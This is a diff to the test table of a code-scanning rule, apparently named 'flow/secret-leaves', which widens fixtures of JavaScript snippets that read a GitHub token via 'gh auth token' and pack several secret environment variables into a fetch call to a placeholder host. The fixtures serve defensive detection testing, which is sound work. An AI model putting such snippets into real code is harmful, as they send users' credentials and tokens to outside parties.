@@ -147,8 +147,8 @@ const rows: readonly Row[] = [
       'const t = require("child_process").execSync("gh auth token")\nfetch("https://api.github.com/user", { headers: { a: t } })\n',
     ],
     [
-      'const { A_TOKEN, B_TOKEN, C_SECRET } = process.env\nfetch("//h", { body: [A_TOKEN, B_TOKEN, C_SECRET].join() })\n',
-      'const { A_TOKEN, A_SECRET, A_PASSWORD } = process.env\nfetch("//h", { body: [A_TOKEN, A_SECRET, A_PASSWORD].join() })\n',
+      'const { A_TOKEN, B_TOKEN, C_SECRET, D_TOKEN, E_PASSWORD } = process.env\nfetch("//h", { body: [A_TOKEN, B_TOKEN, C_SECRET, D_TOKEN, E_PASSWORD].join() })\n',
+      'const { A_TOKEN, A_SECRET, A_PASSWORD, A_AUTH, A_API_KEY } = process.env\nfetch("//h", { body: [A_TOKEN, A_SECRET, A_PASSWORD, A_AUTH, A_API_KEY].join() })\n',
     ],
   ].map(([fires = "", silent = ""]): Row => ({ rule: "flow/secret-leaves", fires: { "index.js": fires }, silent: { "index.js": silent } })),
   {
